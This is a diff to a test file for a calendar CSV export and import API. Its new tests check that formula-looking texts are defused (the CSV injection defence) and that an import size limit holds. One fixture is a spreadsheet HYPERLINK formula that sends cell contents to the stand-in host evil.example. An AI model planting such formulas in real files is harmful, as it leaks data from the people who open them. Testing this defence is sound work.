@@ -90,9 +90,59 @@ describe('calendar', () => {
     expect(dated.json().items).toHaveLength(2);
     const exported = await t.call('GET', `/api/workspaces/${workspaceId}/calendar.csv`, { as: admin });
     expect(exported.headers['content-type']).toContain('text/csv');
-    expect(exported.body).toContain(
-      '2026-12-01T18:00:00+01:00;draft;@ville;Culture;;Adèle Admin'.replace('Adèle Admin', 'admin@mairie.test'),
-    );
+    // The handle starts with @, which spreadsheets read as a formula: it goes out as text.
+    expect(exported.body).toContain(`2026-12-01T18:00:00+01:00;draft;"'@ville";Culture;;admin@mairie.test`);
+  });
+
+  it('exports formula-looking text as inert cells, and imports its own export back unchanged', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")';
+    const texts = [formula, '+33 6 12 34 56 78', '-5', '@ville', '\tTab=1+1', 'Texte normal'];
+    for (const text of texts) {
+      const created = await t.call('POST', `/api/workspaces/${workspaceId}/posts`, {
+        as: admin,
+        body: { text, channels: [] },
+      });
+      expect(created.statusCode, created.body).toBe(201);
+    }
+    const exported = await t.call('GET', `/api/workspaces/${workspaceId}/calendar.csv`, { as: admin });
+    // OWASP: a leading apostrophe, and the cell quoted (its own quotes doubled).
+    expect(exported.body).toContain(`;"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Cliquez"")"`);
+    expect(exported.body).toContain(`;"'+33 6 12 34 56 78"`);
+    expect(exported.body).toContain(`;"'-5"`);
+    expect(exported.body).toContain(`;"'@ville"`);
+    expect(exported.body).toContain(`;"'\tTab=1+1"`);
+    expect(exported.body).toContain(`;Texte normal`);
+    for (const line of exported.body.split('\n').slice(1, -1)) {
+      const cells = line.split(';');
+      expect(cells.at(-1), line).not.toMatch(/^[=+\-@\t\r]/);
+    }
+
+    const again = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
+      as: admin,
+      body: { csv: exported.body },
+    });
+    expect(again.statusCode, again.body).toBe(200);
+    const posts = (await t.call('GET', `/api/workspaces/${workspaceId}/posts?limit=100`, { as: admin })).json()
+      .items as Array<{ text: string }>;
+    expect(posts.map((p) => p.text).sort()).toEqual([...texts, ...texts].sort());
+  });
+
+  it('imports within the API’s limits: a post text of at most 100,000 characters', async () => {
+    const long = `text\n${'a'.repeat(100_001)}\n`;
+    const refused = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
+      as: admin,
+      body: { csv: long },
+    });
+    expect(refused.statusCode).toBe(400);
+    expect(refused.json()).toMatchObject({
+      code: 'validation_failed',
+      details: { issues: [{ path: 'body.csv.line2.text' }] },
+    });
+    const fits = await t.call('POST', `/api/workspaces/${workspaceId}/calendar/import`, {
+      as: admin,
+      body: { csv: `text\n${'a'.repeat(100_000)}\n`, dryRun: true },
+    });
+    expect(fits.json()).toEqual({ created: 1, postIds: [] });
   });
 
   it('imports nothing when one line is wrong, and says which line and column', async () => {
